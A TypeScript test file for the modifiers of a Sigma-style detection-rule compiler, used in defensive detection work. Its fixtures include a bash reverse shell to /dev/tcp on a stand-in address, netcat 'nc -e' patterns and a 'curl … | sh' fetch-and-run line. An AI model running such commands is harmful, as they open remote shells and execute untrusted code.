/** Table-driven tests per modifier, through the full compiler, plus the registry's shape. */
import { describe, expect, it } from 'vitest';
import { compileDetection } from '../detection.js';
import { ANY } from '../pattern.js';
import { MODIFIERS, PLANNED_MODIFIERS, isModifierName, type ModifierName } from './index.js';
import { ModifierError } from './types.js';

type Case = [value: unknown, event: object, matches: boolean];

function run(key: string, cases: Case[]): void {
  it.each(cases)(`${key}: %j on %j → %s`, (value, event, want) => {
    const match = compileDetection({ sel: { [key]: value }, condition: 'sel' }, { file: 'test' });
    expect(match(event)).toBe(want);
  });
}

const cmd = (command_line: unknown): object => ({ process: { command_line } });

describe('contains', () => {
  run('process.command_line|contains', [
    ['/dev/tcp/', cmd('bash -i >& /dev/tcp/1.2.3.4/80'), true],
    ['/DEV/TCP/', cmd('bash -i >& /dev/tcp/1.2.3.4/80'), true],
    ['/dev/udp/', cmd('bash -i >& /dev/tcp/1.2.3.4/80'), false],
    [['nc -e', '/dev/tcp/'], cmd('x /dev/tcp/ y'), true],
    ['a*c', cmd('xxabbbcxx'), true], // wildcards inside stay wildcards
    ['a\\*c', cmd('xa*cx'), true],
    ['a\\*c', cmd('xabcx'), false],
    [4444, cmd('nc 1.2.3.4 4444'), true], // a number is searched as text
    ['', cmd('anything'), true],
    ['x', {}, false], // a missing field never contains anything
  ]);
});

describe('startswith', () => {
  run('process.command_line|startswith', [
    ['/usr/bin/', cmd('/usr/bin/curl'), true],
    ['/USR/BIN/', cmd('/usr/bin/curl'), true],
    ['/usr/bin/', cmd('x /usr/bin/curl'), false],
    [['/bin/', '/usr/bin/'], cmd('/bin/sh'), true],
    ['/usr/*/curl', cmd('/usr/local/bin/curl -s'), true],
  ]);
});

describe('endswith', () => {
  run('process.command_line|endswith', [
    ['/bash', cmd('/bin/bash'), true],
    ['/BASH', cmd('/bin/bash'), true],
    ['/bash', cmd('/bin/bash -i'), false],
    [['/sh', '/bash'], cmd('/bin/sh'), true],
    ['\\cmd.exe', { process: { executable: 'C:\\Windows\\System32\\cmd.exe' } }, false], // other field
  ]);
  run('process.executable|endswith', [['\\cmd.exe', { process: { executable: 'C:\\Windows\\System32\\cmd.exe' } }, true]]);
});

describe('all', () => {
  run('process.command_line|contains|all', [
    [['curl', '| sh'], cmd('curl -s http://x | sh'), true],
    [['curl', '| sh'], cmd('curl -s http://x'), false],
    [['CURL', '| SH'], cmd('curl -s http://x | sh'), true],
  ]);
  run('process.command_line|all|contains', [[['curl', '| sh'], cmd('curl x | sh'), true]]); // order does not matter here
  run('tags|all', [
    [['a', 'b'], { tags: ['b', 'c', 'a'] }, true], // each value may match a different element
    [['a', 'd'], { tags: ['b', 'c', 'a'] }, false],
  ]);
  run('|all', [
    [['OabVirtualDirectory', ' -ExternalUrl '], { message: 'Set-OabVirtualDirectory -ExternalUrl http://x' }, true],
    [['OabVirtualDirectory', ' -ExternalUrl '], { message: 'Set-OabVirtualDirectory', other: { m: 'x -ExternalUrl y' } }, true],
    [['OabVirtualDirectory', ' -ExternalUrl '], { message: 'Get-OabVirtualDirectory' }, false],
  ]);

  it('refuses a single value (Sigma 2.1)', () => {
    expect(() => compileDetection({ s: { 'a|all': 'x' }, condition: 's' }, { file: 'f' })).toThrow(/'all' needs a list/);
  });
});

describe('modifier errors', () => {
  it.each(['contains', 'startswith', 'endswith'])('%s refuses null', (m) => {
    expect(() => compileDetection({ s: { [`a|${m}`]: null }, condition: 's' }, { file: 'f' })).toThrow(
      new RegExp(`'${m}' cannot apply to a null value`),
    );
  });
  it('the modifiers never mutate the plan they are given', () => {
    const plan = Object.freeze({ values: Object.freeze([{ kind: 'pattern' as const, parts: Object.freeze(['x']) }]), join: 'or' as const });
    expect(MODIFIERS.contains.apply(plan, { field: 'a' }).values[0]).toEqual({ kind: 'pattern', parts: [ANY, 'x', ANY] });
    expect(() => MODIFIERS.all.apply(plan, { field: 'a' })).toThrow(ModifierError);
  });
});

describe('registry', () => {
  it('derives the names from its keys', () => {
    const names: ModifierName[] = ['all', 'contains', 'endswith', 'startswith'];
    expect(Object.keys(MODIFIERS).sort()).toEqual(names);
    expect(isModifierName('contains')).toBe(true);
    expect(isModifierName('toString')).toBe(false); // own keys only
  });
  it('plans no modifier that is already implemented', () => {
    expect(PLANNED_MODIFIERS.filter((m) => isModifierName(m))).toEqual([]);
  });
  it('gives each modifier a summary', () => {
    for (const m of Object.values(MODIFIERS)) expect(m.summary.length).toBeGreaterThan(10);
  });
});
